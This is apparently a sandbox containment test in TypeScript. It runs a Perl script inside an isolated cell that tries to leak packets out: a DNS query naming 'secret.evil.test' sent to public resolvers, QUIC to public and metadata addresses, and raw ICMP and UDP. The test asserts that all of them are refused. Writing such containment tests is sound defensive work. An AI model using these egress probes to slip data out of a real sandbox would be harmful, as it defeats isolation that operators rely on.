import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { networkInterfaces } from 'node:os'
import { type Attack, judge } from './attack.ts'

/** Sends without a proxy and without TCP: a question of DNS, the first packet of QUIC, an echo request, by every kind of socket that
 *  carries them. Says of each whether it was sent. To the cell's own loopback it may be: nothing else is there. */
const send = String.raw`
  use Socket;
  my $dns = pack('n6', 0x1234, 0x0100, 1, 0, 0, 0) . join('', map { chr(length) . $_ } qw(secret evil test)) . "\0" . pack('n2', 1, 1);
  my $quic = pack('C N C', 0xc3, 1, 8) . 'destconn' . "\0" . "\0" . pack('n', 0x4480) . "\0" x 1177;
  my $echo = pack('C2 n3', 8, 0, 0xf7fd, 1, 1);
  my %says = (dns => $dns, quic => $quic, echo => $echo);
  sub try { my ($name, $family, $kind, $protocol, $to, $bytes) = @_;
    my $s;
    my $sent = socket($s, $family, $kind, $protocol) && do { setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); defined send($s, $bytes, 0, $to) };
    print "$name: ", ($sent ? "SENT" : "refused"), "\n" }
  for (@ARGV) {
    my ($what, $address, $port) = split / /;
    my $six = $address =~ /:/;
    my $family = $six ? AF_INET6 : AF_INET;
    my $packed = Socket::inet_pton($family, $address);
    my $to = $six ? Socket::pack_sockaddr_in6($port, $packed) : pack_sockaddr_in($port, $packed);
    if ($what eq 'echo') {
      try("echo $address by datagram", $family, SOCK_DGRAM, $six ? 58 : 1, $to, $echo);
      try("echo $address raw", $family, SOCK_RAW, $six ? 58 : 1, $to, $echo);
      try("udp $address raw", $family, SOCK_RAW, 17, $to, pack('n4', 53, 53, 8 + length $dns, 0) . $dns);
    } else { try("$what $address", $family, SOCK_DGRAM, 0, $to, $says{$what}) }
  }`

/** Everybody's resolvers, those of the local network by multicast, a DHCP server, and QUIC to anybody. */
const elsewhere = [
  ...['dns 1.1.1.1 53', 'dns 8.8.8.8 53', 'dns 2606:4700:4700::1111 53', 'dns 224.0.0.251 5353', 'dns 255.255.255.255 67'],
  ...[
    'quic 1.1.1.1 443',
    'quic 2606:4700:4700::1111 443',
    'quic 169.254.169.254 443',
    'echo 1.1.1.1 0',
    'echo 2606:4700:4700::1111 0',
  ],
]
const answersOf = (attempt: string): string[] => {
  const [what = '', address = ''] = attempt.split(' ')
  return what === 'echo'
    ? [`echo ${address} by datagram: refused`, `echo ${address} raw: refused`, `udp ${address} raw: refused`]
    : [`${what} ${address}: refused`]
}

export const datagrams: Attack = {
  name: 'send past the window',
  promise: 'No question to a name server, no QUIC, no ping and no packet of another making leaves a cell',
  guard: 'a network namespace with a loopback of its own and nothing else, and a filter that knows no raw sockets',
  async *run(on) {
    const under = await on.cell()
    let packets = 0
    const everywhere = createSocket('udp4').on('message', () => void packets++)
    await new Promise<void>((resolve) => everywhere.bind(0, '0.0.0.0', resolve))
    try {
      const { port } = everywhere.address()
      const own = Object.values(networkInterfaces())
        .flatMap((each) => each ?? [])
        .filter(({ internal, family }) => !internal && family === 'IPv4')
        .flatMap(({ address }) => [`dns ${address} ${port}`, `quic ${address} ${port}`, `echo ${address} 0`])
      const resolvers = [...readFileSync('/etc/resolv.conf', 'utf8').matchAll(/^nameserver\s+([\d.]+)\s*$/gm)]
        .map(([, address]) => `dns ${address} 53`)
        .filter((attempt) => !attempt.startsWith('dns 127.'))
      const all = [...elsewhere, ...own, ...resolvers]
      yield judge('nothing is sent to anybody', (await under.perl(send, ...all)).lines, all.flatMap(answersOf))

      const { lines } = await under.perl(send, `dns 127.0.0.1 ${port}`, `quic 127.0.0.1 ${port}`)
      // Whatever its own loopback said: the host has heard nothing.
      yield judge('what is sent to loopback stays in the cell', { asked: lines.length, packets }, { asked: 2, packets: 0 })
    } finally {
      everywhere.close()
    }
  },
}
